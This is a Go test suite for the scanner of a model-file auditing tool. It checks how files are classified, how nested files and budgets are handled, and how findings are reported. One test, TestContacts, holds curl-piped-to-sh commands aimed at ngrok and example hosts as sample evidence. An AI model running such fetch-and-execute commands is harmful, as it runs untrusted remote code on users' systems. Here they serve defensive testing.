package scan_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/modelaudit/modelaudit/internal/artifact"
	"github.com/modelaudit/modelaudit/internal/audit"
	"github.com/modelaudit/modelaudit/internal/detector"
	"github.com/modelaudit/modelaudit/internal/finding"
	"github.com/modelaudit/modelaudit/internal/hostile"
	"github.com/modelaudit/modelaudit/internal/rule"
	"github.com/modelaudit/modelaudit/internal/scan"
	"github.com/modelaudit/modelaudit/internal/walk"
)

var bad = &rule.Rule{ID: "toy-bad", Title: "Bad", Severity: rule.Critical, Precision: rule.Certain, Since: "0.1.0"}

// toy is a detector of a format whose files are programs of one letter a step.
func toy() *detector.Detector {
	return &detector.Detector{
		Name:  "toy",
		Rules: []*rule.Rule{bad},
		Match: func(h *artifact.Head) bool {
			if h.HasPrefix("crash-match") {
				panic("index out of range")
			}
			return h.HasPrefix("toy:")
		},
		Run: runToy,
	}
}

func runToy(_ context.Context, p *detector.Pass) error {
	r := p.Reader()
	r.Skip(4)
	p.Recognised("toy")
	for r.Left() > 0 && r.Step() {
		if err := step(p, r); err != nil {
			return err
		}
	}
	return r.Err()
}

func step(p *detector.Pass, r *hostile.Reader) error {
	at := r.Offset()
	switch r.Uint8() {
	case '!': // something bad
		p.Report(finding.Finding{Rule: bad, Message: "Bad.", Key: "bad", Location: finding.Location{Offset: at}})
	case 'c':
		panic("nil map")
	case 'f':
		return r.Fail(hostile.Malformed, "an f")
	case 'i': // a part that cannot be read
		p.Incomplete(hostile.Faultf(hostile.Unsupported, at, "encrypted"))
	case 'r':
		p.Refused("stored elsewhere")
	case '(': // the rest is a file inside
		rest := r.Bytes(uint64(r.Left()))
		return p.Nested(p.File.Member("inner.pkl", hostile.Bytes(rest), int64(len(rest))))
	case '0': // a file inside that claims more than it has
		return p.Nested(p.File.Member("short", hostile.Bytes(nil), 10))
	case '@': // itself again
		return p.Nested(p.File.Member("again", p.File.Content, p.File.Size))
	case 'm': // a disk that fails
		return &hostile.MachineError{Err: errors.New("input/output error")}
	}
	return nil
}

func TestScan(t *testing.T) {
	cases := []struct {
		name, file, data string
		status           audit.Status
		rules            []string
		reason           string
	}{
		{name: "clean", data: "toy:", status: audit.Clean},
		{name: "findings", data: "toy:!", status: audit.Findings, rules: []string{"toy-bad"}},
		{name: "text", file: "README.md", data: "hello", status: audit.NotAModel, reason: "of no format that a model loader takes"},
		{name: "named like a model", file: "m.PKL", data: "hello", status: audit.Incomplete, rules: []string{"model-unrecognised"},
			reason: "named like a model, but of no known format"},
		{name: "encrypted model", file: "m.safetensors.AGE", data: "hello", status: audit.Incomplete, rules: []string{"model-unrecognised"},
			reason: "named like a model, but of no known format"},
		{name: "encrypted text", file: "notes.txt.gpg", data: "hello", status: audit.NotAModel, reason: "of no format that a model loader takes"},
		{name: "empty model", file: "m.pt", status: audit.Incomplete, rules: []string{"model-unrecognised"}, reason: "named like a model, but empty"},
		{name: "model of a line", file: "m.pkl", data: "\r\n", status: audit.Incomplete, rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
		{name: "template of a page", file: "m.pt", data: "<p tal:content=\"structure view\">t\u00edtulo</p>\n", status: audit.NotAModel, reason: "of no format that a model loader takes"},
		{name: "text in Portuguese", file: "m.pt", data: strings.Repeat("t\u00edtulo ", 80), status: audit.NotAModel, reason: "of no format that a model loader takes"},
		{name: "page in place of a model", file: "m.pt", data: "<html><title>404</title>" + strings.Repeat("<p>not here", 64), status: audit.Incomplete,
			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
		{name: "answer in place of a model", file: "m.pt", data: "Weights are available on request.\n", status: audit.Incomplete,
			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
		{name: "text with something behind it", file: "m.pt", data: strings.Repeat("text ", 9) + "\x80\x02", status: audit.Incomplete,
			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
		{name: "text that is encrypted", file: "m.pt", data: "-----BEGIN PGP MESSAGE-----\n\nhQEMA\n-----END PGP MESSAGE-----\n", status: audit.Incomplete,
			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
		{name: "text that is encrypted, of any length", file: "m.pt", data: strings.Repeat("text ", 200) + "-----BEGIN AGE ENCRYPTED FILE-----\n", status: audit.Incomplete,
			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
		{name: "text of 512 characters", file: "m.pt", data: strings.Repeat("t", 512), status: audit.NotAModel, reason: "of no format that a model loader takes"},
		{name: "text with tabs and ends of lines", file: "m.pt", data: strings.Repeat("\t\r\n \v\f~\xed", 99), status: audit.NotAModel, reason: "of no format that a model loader takes"},
		{name: "text with a backspace", file: "m.pt", data: strings.Repeat("text", 200) + "\b", status: audit.Incomplete,
			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
		{name: "text with a shift", file: "m.pt", data: strings.Repeat("text", 200) + "\x0e", status: audit.Incomplete,
			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
		{name: "text with a deletion", file: "m.pt", data: strings.Repeat("text", 200) + "\x7f", status: audit.Incomplete,
			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
		{name: "text as large as is looked through", file: "m.pt", data: strings.Repeat("text", 1<<18), status: audit.NotAModel, reason: "of no format that a model loader takes"},
		{name: "text that is larger", file: "m.pt", data: strings.Repeat("text", 1<<18) + ".", status: audit.Incomplete,
			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
		{name: "data of IDL", file: "m.sav", data: "SR\x00\x04", status: audit.NotAModel, reason: "of no format that a model loader takes"},
		{name: "text where none is usual", file: "m.h5", data: strings.Repeat("a text that is long enough ", 99), status: audit.Incomplete,
			rules: []string{"model-unrecognised"}, reason: "named like a model, but of no known format"},
		{name: "findings before a fault stand", data: "toy:!f!", status: audit.Incomplete, rules: []string{"toy-bad", "scan-incomplete"},
			reason: "malformed at byte 0x6: an f"},
		{name: "a part", data: "toy:iii!", status: audit.Incomplete, rules: []string{"toy-bad", "scan-incomplete"},
			reason: "unsupported at byte 0x4: encrypted"},
		{name: "two causes", data: "toy:if", status: audit.Incomplete, rules: []string{"scan-incomplete", "scan-incomplete"},
			reason: "unsupported at byte 0x4: encrypted"},
		{name: "crash", data: "toy:!c", status: audit.Incomplete, rules: []string{"toy-bad", "scan-crashed"}, reason: "crashed: nil map"},
		{name: "crash of the match", file: "m.pkl", data: "crash-match", status: audit.Incomplete, rules: []string{"scan-crashed"},
			reason: "crashed: index out of range"},
		{name: "refused", data: "toy:r", status: audit.NotScanned, reason: "stored elsewhere"},
		{name: "machine", data: "toy:m", status: audit.Incomplete, rules: []string{"scan-incomplete"}, reason: "reading: input/output error"},
		{name: "inside", data: "toy:!(toy:!", status: audit.Findings, rules: []string{"toy-bad", "toy-bad"}},
		{name: "refused inside", data: "toy:(toy:r", status: audit.Incomplete, rules: []string{"scan-incomplete"}, reason: "inner.pkl: stored elsewhere"},
		{name: "unknown inside, named like a model", data: "toy:(what", status: audit.Incomplete, rules: []string{"model-unrecognised"},
			reason: "inner.pkl: named like a model, but of no known format"},
		{name: "inside shorter than claimed", data: "toy:0", status: audit.Incomplete, rules: []string{"scan-incomplete"},
			reason: "short: truncated at byte 0x0: 10 bytes claimed, 0 left"},
		{name: "endless nesting", data: "toy:@", status: audit.Incomplete, rules: []string{"scan-incomplete"},
			reason: "again › again › again › again › again › again › again…(227 bytes)…ain › again › again › again: over budget at byte 0x0: files nested more than 32 deep (limit --max-depth)"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := scanned(hostile.DefaultLimits(), c.file, c.data)
			if got.Status != c.status || got.Reason != c.reason {
				t.Errorf("%q: got %s (%s), want %s (%s)", c.data, got.Status, got.Reason, c.status, c.reason)
			}
			if ids := ruleIDs(got); !slices.Equal(ids, c.rules) {
				t.Errorf("%q: got rules %v, want %v", c.data, ids, c.rules)
			}
		})
	}
}

func scanned(limits hostile.Limits, name, data string) audit.File {
	if name == "" {
		name = "file.bin"
	}
	s := scan.Scanner{Detectors: []*detector.Detector{toy()}, Limits: limits, Now: time.Now}
	return s.File(context.Background(), artifact.File{Path: name, Content: hostile.Bytes(data), Size: int64(len(data))})
}

func ruleIDs(f audit.File) (ids []string) {
	for _, found := range f.Findings {
		ids = append(ids, found.Rule.ID)
	}
	return ids
}

func TestNestingIsNamed(t *testing.T) {
	got := scanned(hostile.DefaultLimits(), "m.bin", "toy:(toy:(toy:!")
	if len(got.Findings) != 1 {
		t.Fatalf("got %v, want one finding", got.Findings)
	}
	if !slices.Equal(got.Formats, []string{"toy"}) {
		t.Errorf("got formats %q, want toy, once", got.Formats)
	}
	where := got.Findings[0].Location
	if where.Path != "m.bin" || !slices.Equal(where.Inside, []string{"inner.pkl", "inner.pkl"}) || where.Offset != 4 {
		t.Errorf("got %+v, want byte 4 of inner.pkl in inner.pkl in m.bin", where)
	}
}

// TestOneBudget: what is nested is paid from the budget of the file on disk, and
// the limit that ends the file is told once.
func TestOneBudget(t *testing.T) {
	limits := hostile.DefaultLimits()
	limits.Steps, limits.Depth = -8*5+20, 1000 // 20 steps beyond those that the file's size gives
	got := scanned(limits, "", "toy:@")
	want := "over budget at byte 0x0: more than 20 steps (limit --max-steps)"
	if got.Status != audit.Incomplete || got.Reason != want && !strings.Contains(got.Reason, "more than 20 steps") {
		t.Errorf("got %s (%s), want incomplete (%s)", got.Status, got.Reason, want)
	}
	if ids := ruleIDs(got); !slices.Equal(ids, []string{"scan-incomplete"}) {
		t.Errorf("got %v, want scan-incomplete once", ids)
	}
}

// TestUnreadFarInside: a file with a long name in which many others cannot be read
// costs what its names do, not what all of the ways through them would.
func TestUnreadFarInside(t *testing.T) {
	const files, length = 3000, 60_000
	var before, after runtime.MemStats
	far := &detector.Detector{
		Name:  "far",
		Match: func(h *artifact.Head) bool { return h.Depth == 0 },
		Run: func(_ context.Context, p *detector.Pass) error {
			p.Recognised("far")
			outer := p.File.Member(strings.Repeat("x", length), nil, 0)
			for i := range files {
				if err := p.Nested(outer.Member(fmt.Sprint(i, ".pkl"), hostile.Bytes(nil), 1)); err != nil {
					return err
				}
			}
			return nil
		},
	}
	s := scan.Scanner{Detectors: []*detector.Detector{far}, Limits: hostile.DefaultLimits(), Now: time.Now}
	runtime.ReadMemStats(&before)
	got := s.File(context.Background(), artifact.File{Path: "f", Content: hostile.Bytes("x"), Size: 1})
	runtime.ReadMemStats(&after)
	if n := after.TotalAlloc - before.TotalAlloc; n > files*length/4 || len(got.Findings) < 2000 {
		t.Errorf("%d findings took %d bytes", len(got.Findings), n)
	}
}

// TestWhereUnread: what was not read is told with its place.
func TestWhereUnread(t *testing.T) {
	for data, want := range map[string]int64{"toy:f": 5, "toy:!!i": 6, "toy:m": 0} {
		found := scanned(hostile.DefaultLimits(), "", data).Findings
		last := found[len(found)-1]
		if last.Rule.ID != "scan-incomplete" || last.Location.Offset != want || last.Evidence[0].Offset != want {
			t.Errorf("%q: got %s at %d, evidence at %d, want scan-incomplete at %d", data, last.Rule.ID, last.Location.Offset, last.Evidence[0].Offset, want)
		}
	}
}

// TestBinary: what is of no format is told to be binary unless it starts as text.
func TestBinary(t *testing.T) {
	for _, c := range []struct {
		name, data string
		want       bool
	}{
		{name: "text", data: " a\tb\r\nc\f"},
		{name: "the sign for what is no character", data: "a\ufffdb"},
		{name: "nothing", data: ""},
		{name: "a character that is cut", data: "a\xe2\x82"},
		{name: "no character", data: "a\xffb", want: true},
		{name: "no character at the end", data: "a\xff", want: true},
		{name: "a control character", data: "a\x01", want: true},
		{name: "in a file of a known format", data: "toy:(\x01"},
	} {
		if got := scanned(hostile.DefaultLimits(), "", c.data); got.Binary != c.want {
			t.Errorf("%s, %q: got %v, want %v", c.name, c.data, got.Binary, c.want)
		}
	}
}

// broken is content of which the disk returns nothing from an offset on.
type broken int64

func (b broken) ReadAt(p []byte, off int64) (int, error) {
	n := min(max(0, int64(b)-off), int64(len(p)))
	copy(p, "toy:"[min(off, 4):])
	if n < int64(len(p)) {
		return int(n), errors.New("input/output error")
	}
	return int(n), nil
}

// TestBrokenDisk: what the disk does not return was not read, be it needed to know the
// file or for its digest alone.
func TestBrokenDisk(t *testing.T) {
	for _, c := range []struct {
		name   string
		at     broken
		rules  []string
		digest bool
	}{
		{name: "at once", at: 0, rules: []string{"scan-incomplete"}},
		{name: "behind the start", at: 4096, rules: []string{"scan-incomplete"}},
		{name: "behind the end", at: 1 << 20, digest: true},
	} {
		silent := &detector.Detector{Name: "silent", Match: func(h *artifact.Head) bool { return h.HasPrefix("toy:") }, Run: func(_ context.Context, p *detector.Pass) error {
			p.Recognised("silent")
			return nil
		}}
		s := scan.Scanner{Detectors: []*detector.Detector{silent}, Limits: hostile.DefaultLimits(), Now: time.Now, Digest: true}
		got := s.File(context.Background(), artifact.File{Path: "m", Content: c.at, Size: 1 << 20})
		if ids := ruleIDs(got); !slices.Equal(ids, c.rules) || (got.Digest != nil) != c.digest || (got.Status == audit.Clean) != c.digest {
			t.Errorf("%s: got %v, %s (%s), digest %x", c.name, ids, got.Status, got.Reason, got.Digest)
		}
	}
}

// TestSiblings: files beside one another in a container are no deeper than one, and a
// detector hears that the budget is spent.
func TestSiblings(t *testing.T) {
	for _, c := range []struct {
		name    string
		members int64
		status  audit.Status
		heard   int // how many were handed on before an error
	}{
		{name: "as many as may be", members: 3, status: audit.Clean, heard: 3},
		{name: "more", members: 2, status: audit.Incomplete, heard: 2},
	} {
		heard := 0
		box := &detector.Detector{Name: "box", Match: func(h *artifact.Head) bool { return h.Depth == 0 }, Run: func(_ context.Context, p *detector.Pass) error {
			p.Recognised("box")
			for range 3 {
				if err := p.Part("inner", 0, 4); err != nil {
					return err
				}
				heard++
			}
			return nil
		}}
		limits := hostile.DefaultLimits()
		limits.Depth, limits.Members = 1, c.members
		s := scan.Scanner{Detectors: []*detector.Detector{box}, Limits: limits, Now: time.Now}
		got := s.File(context.Background(), artifact.File{Path: "m", Content: hostile.Bytes("text"), Size: 4})
		if got.Status != c.status || heard != c.heard {
			t.Errorf("%s: got %s (%s), %d handed on, want %s, %d", c.name, got.Status, got.Reason, heard, c.status, c.heard)
		}
	}
}

// TestManyFindings: a file cannot fill the memory with findings, nor push one
// out of the verdict.
func TestManyFindings(t *testing.T) {
	got := scanned(hostile.DefaultLimits(), "", "toy:"+strings.Repeat("!", 100_000))
	if len(got.Findings) != 2001 || got.Status != audit.Incomplete {
		t.Fatalf("got %d findings, %s, want 2001, incomplete", len(got.Findings), got.Status)
	}
	if a, b := got.Findings[0].Fingerprint(), got.Findings[1].Fingerprint(); a == b {
		t.Errorf("two findings have one fingerprint, %s", a)
	}
	last := got.Findings[len(got.Findings)-1]
	if want := "Not fully read: 98000 more findings are not listed, 2000 of a severity are."; last.Message != want {
		t.Errorf("got %q, want %q", last.Message, want)
	}
}

func TestAllKeepsTheOrder(t *testing.T) {
	dir := t.TempDir()
	for i := range 40 {
		write(t, filepath.Join(dir, fmt.Sprintf("m%02d.bin", i)), "toy:"+strings.Repeat("!", i%3))
	}
	write(t, filepath.Join(dir, "zz.txt"), "text")
	files, err := walk.Files([]string{dir}, walk.Filter{})
	if err != nil {
		t.Fatal(err)
	}
	s := scan.Scanner{Detectors: []*detector.Detector{toy()}, Limits: hostile.DefaultLimits(), Now: time.Now}
	done, open := 0, openFiles()
	got := s.All(context.Background(), files, func(*audit.File) { done++ })
	if left := openFiles() - open; left > len(files)/2 { // the runtime opens one or two
		t.Errorf("%d of %d files are left open", left, len(files))
	}
	if done != 41 || len(got.Files) != 41 {
		t.Fatalf("got %d conclusions, told of %d, want 41", len(got.Files), done)
	}
	for i, f := range got.Files[:40] {
		if f.Path != files[i].Path || len(f.Findings) != i%3 {
			t.Errorf("file %d: got %s with %d findings, want %s with %d", i, f.Path, len(f.Findings), files[i].Path, i%3)
		}
	}
}

// openFiles is how many files the process has open, where the system tells.
func openFiles() int {
	open, _ := os.ReadDir("/proc/self/fd")
	return len(open)
}

func TestAllTellsWhatWasNotOpened(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "big.bin"), "toy:"+strings.Repeat(" ", 100))
	for _, name := range []string{"gone.pt", "gone.txt"} {
		if err := os.Symlink("nowhere", filepath.Join(dir, name)); err != nil {
			t.Skip("no symbolic links here:", err)
		}
	}
	files, err := walk.Files([]string{dir}, walk.Filter{MaxSize: 50})
	if err != nil {
		t.Fatal(err)
	}
	s := scan.Scanner{Detectors: []*detector.Detector{toy()}, Limits: hostile.DefaultLimits(), Now: time.Now}
	want := map[string]audit.Status{"big.bin": audit.NotScanned, "gone.pt": audit.NotScanned, "gone.txt": audit.NotAModel}
	for _, f := range s.All(context.Background(), files, nil).Files {
		if name := filepath.Base(f.Path); f.Status != want[name] || f.Reason == "" {
			t.Errorf("%s: got %s (%s), want %s and a reason", name, f.Status, f.Reason, want[name])
		}
	}
}

// TestFileThatVanishes between the walk and the scan.
func TestFileThatVanishes(t *testing.T) {
	dir := t.TempDir()
	name := filepath.Join(dir, "m.bin")
	write(t, name, "toy:")
	files, err := walk.Files([]string{dir}, walk.Filter{})
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(name); err != nil {
		t.Fatal(err)
	}
	s := scan.Scanner{Limits: hostile.DefaultLimits(), Now: time.Now}
	if got := s.All(context.Background(), files, nil).Files[0]; got.Status != audit.NotScanned {
		t.Errorf("got %s (%s), want not-scanned", got.Status, got.Reason)
	}
}

func write(t *testing.T, name, data string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(name), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(name, []byte(data), 0o600); err != nil {
		t.Fatal(err)
	}
}

func TestRulesAreComplete(t *testing.T) {
	for _, r := range scan.Rules {
		if r.Help() == "" || r.Title == "" || r.Severity == 0 || r.Precision == 0 || r.Since == "" {
			t.Errorf("rule %s lacks something: %+v", r.ID, r)
		}
	}
}

// TestExamine: what a detector examines is reported by nobody but itself, and
// damage in it is not the file's; a crash in it is.
func TestExamine(t *testing.T) {
	for _, c := range []struct {
		name, inner string
		found       int
		status      audit.Status
		rules       []string
	}{
		{name: "nothing", inner: "toy:", status: audit.Clean},
		{name: "something bad", inner: "toy:!!", found: 2, status: audit.Clean},
		{name: "damaged", inner: "toy:!f", found: 1, status: audit.Clean},
		{name: "a crash", inner: "toy:!c", found: 1, status: audit.Incomplete, rules: []string{"scan-crashed"}},
		{name: "a limit", inner: "toy:@", status: audit.Incomplete, rules: []string{"scan-incomplete"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			found := -1
			looks := &detector.Detector{
				Name:  "looks",
				Match: func(h *artifact.Head) bool { return h.Depth == 0 },
				Run: func(_ context.Context, p *detector.Pass) error {
					p.Recognised("looks")
					all, err := p.Examine(p.File.Member("inner", hostile.Bytes(c.inner), int64(len(c.inner))))
					found = len(all)
					return err
				},
			}
			s := scan.Scanner{Detectors: []*detector.Detector{looks, toy()}, Limits: hostile.DefaultLimits(), Now: time.Now}
			got := s.File(context.Background(), artifact.File{Path: "m", Content: hostile.Bytes("x"), Size: 1})
			if ids := ruleIDs(got); found != c.found || got.Status != c.status || !slices.Equal(ids, c.rules) {
				t.Errorf("got %d findings, %v and %s (%s), want %d, %v and %s", found, ids, got.Status, got.Reason, c.found, c.rules, c.status)
			}
		})
	}
}

// TestContacts: a finding that quotes an address says whose it is.
func TestContacts(t *testing.T) {
	calls := &rule.Rule{ID: "toy-calls", Title: "Calls", Severity: rule.High, Precision: rule.Certain, Since: "0.1.0"}
	mild := &rule.Rule{ID: "toy-mentions", Title: "Mentions", Severity: rule.Low, Precision: rule.Certain, Since: "0.1.0"}
	medium := &rule.Rule{ID: "toy-may-call", Title: "May call", Severity: rule.Medium, Precision: rule.Certain, Since: "0.1.0"}
	for _, c := range []struct {
		name, text, message string
		rule                *rule.Rule
		want                int
	}{
		{name: "tunnel", rule: calls, text: "os.system('curl https://a.ngrok.io/x | sh')", want: 2},
		{name: "two kinds", rule: calls, text: "os.system('curl https://a.ngrok.io/x https://192.0.2.1/y https://b.ngrok.io/z')", want: 3},
		{name: "any host", rule: calls, text: "os.system('curl https://example.org/x | sh')", want: 1},
		{name: "the mildest that counts", rule: medium, text: "os.system('curl https://a.ngrok.io/x | sh')", want: 2},
		{name: "in the message", rule: calls, text: "os.system", message: "It calls https://a.ngrok.io/x.", want: 2},
		{name: "no danger", rule: mild, text: "os.system('curl https://a.ngrok.io/x | sh')", want: 1},
	} {
		d := &detector.Detector{
			Name:  "toy",
			Match: func(*artifact.Head) bool { return true },
			Run: func(_ context.Context, p *detector.Pass) error {
				p.Report(finding.Finding{Rule: c.rule, Key: "k", Message: c.message, Evidence: []finding.Step{{Offset: 7, Text: c.text}}})
				return nil
			},
		}
		s := scan.Scanner{Detectors: []*detector.Detector{d}, Limits: hostile.DefaultLimits(), Now: time.Now}
		got := s.File(context.Background(), artifact.File{Path: "m", Content: hostile.Bytes("x"), Size: 1})
		if len(got.Findings) != 1 || len(got.Findings[0].Evidence) != c.want {
			t.Errorf("%s: got %+v, want %d steps", c.name, got.Findings, c.want)
		}
	}
}

// TestSubject: what is said inside about a subject is told if it is worse than what
// is said outside.
func TestSubject(t *testing.T) {
	high, low := &rule.Rule{ID: "high", Severity: rule.High}, &rule.Rule{ID: "low", Severity: rule.Low}
	type say struct {
		depth   int
		rule    *rule.Rule
		subject string
	}
	for _, c := range []struct {
		name string
		says []say
		want []int // which are told
	}{
		{name: "the same", says: []say{{0, high, "x"}, {1, high, "x"}}, want: []int{0}},
		{name: "milder", says: []say{{0, high, "x"}, {1, low, "x"}}, want: []int{0}},
		{name: "worse", says: []say{{0, low, "x"}, {1, high, "x"}}, want: []int{0, 1}},
		{name: "the inner one first", says: []say{{2, low, "x"}, {1, high, "x"}}, want: []int{1}},
		{name: "further inside", says: []say{{2, low, "x"}, {1, low, "x"}, {0, high, "y"}}, want: []int{1, 2}},
		{name: "at one depth", says: []say{{1, low, "x"}, {1, high, "x"}, {1, low, "x"}}, want: []int{0, 1, 2}},
		{name: "by the worst outside", says: []say{{0, low, "x"}, {0, high, "x"}, {1, high, "x"}}, want: []int{0, 1}},
		{name: "about nothing", says: []say{{0, high, ""}, {1, low, ""}, {0, high, "x"}}, want: []int{0, 1, 2}},
	} {
		d := &detector.Detector{Name: "toy", Match: func(*artifact.Head) bool { return true }, Run: func(_ context.Context, p *detector.Pass) error {
			for i, s := range c.says {
				if s.depth == len(p.File.Inside) {
					p.Report(finding.Finding{Rule: s.rule, Subject: s.subject, Key: fmt.Sprint(i)})
				}
			}
			if len(p.File.Inside) == 2 {
				return nil
			}
			return p.Nested(p.File.Member("a", hostile.Bytes("x"), 1))
		}}
		s := scan.Scanner{Limits: hostile.DefaultLimits(), Now: time.Now, Detectors: []*detector.Detector{d}}
		var got []int
		for _, f := range s.File(context.Background(), artifact.File{Path: "m", Content: hostile.Bytes("x"), Size: 1}).Findings {
			i, _ := strconv.Atoi(f.Key)
			got = append(got, i)
		}
		slices.Sort(got)
		if !slices.Equal(got, c.want) {
			t.Errorf("%s: got %d, want %d", c.name, got, c.want)
		}
	}
}

// TestSpent: a file whose budget is spent is not clean, whatever the detectors say.
func TestSpent(t *testing.T) {
	silent := &detector.Detector{Name: "silent", Match: func(*artifact.Head) bool { return true }, Run: func(_ context.Context, p *detector.Pass) error {
		p.Recognised("silent")
		for p.Budget.Step() == nil {
		}
		return nil
	}}
	s := scan.Scanner{Detectors: []*detector.Detector{silent}, Limits: hostile.Limits{Steps: 100, Members: 1, Depth: 1, Time: time.Minute}, Now: time.Now, Search: scan.SearchAll}
	silent.Raw = detector.Weights
	silent.Search = func(*detector.Pass, detector.Region) error { t.Error("searched for more"); return nil }
	got := s.File(context.Background(), artifact.File{Path: "m", Content: hostile.Bytes("model"), Size: 5})
	if got.Status != audit.Incomplete || !strings.Contains(got.Reason, "max-steps") || len(got.Findings) != 1 {
		t.Errorf("got %s (%s) and %d findings", got.Status, got.Reason, len(got.Findings))
	}
}
